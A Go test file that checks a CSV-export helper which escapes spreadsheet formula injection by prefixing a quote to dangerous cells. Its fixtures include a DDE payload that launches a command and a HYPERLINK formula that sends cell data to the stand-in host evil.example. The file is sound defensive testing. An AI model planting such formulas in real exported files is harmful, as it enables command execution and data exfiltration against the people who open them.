package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

func TestSafeCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		// OWASP's list: = + - @ tab and carriage return start a formula.
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+81 3 1234 5678", "'+81 3 1234 5678"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"=", "'="},
		// Everything else is left as it is.
		{"", ""},
		{"alice@example.com", "alice@example.com"},
		{"111122223333", "111122223333"},
		{"https://example.signin.aws.amazon.com/console", "https://example.signin.aws.amazon.com/console"},
		{"Xq7=vR2", "Xq7=vR2"},
		{" =1+1", " =1+1"},
		{"'quoted", "'quoted"},
		{"山田 花子", "山田 花子"},
	}
	for _, tt := range tests {
		if got := SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// What a spreadsheet reads back from the writer is every cell made safe,
// quoted where CSV needs it; the caller's record is not changed.
func TestCSVWriter(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := NewCSVWriter(&b)
	records := [][]string{
		{"user_name", "password"},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+a,b\"c"},
		{"alice", "Xq7vR2mK9pL4"},
	}
	orig := slices.Clone(records[1])
	for _, r := range records {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(records[1], orig) {
		t.Errorf("the caller's record changed: %q", records[1])
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"user_name", "password"},
		{"'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'+a,b\"c"},
		{"alice", "Xq7vR2mK9pL4"},
	}
	if len(got) != len(want) {
		t.Fatalf("read back %q", got)
	}
	for i := range want {
		if !slices.Equal(got[i], want[i]) {
			t.Errorf("row %d = %q, want %q", i, got[i], want[i])
		}
	}
}
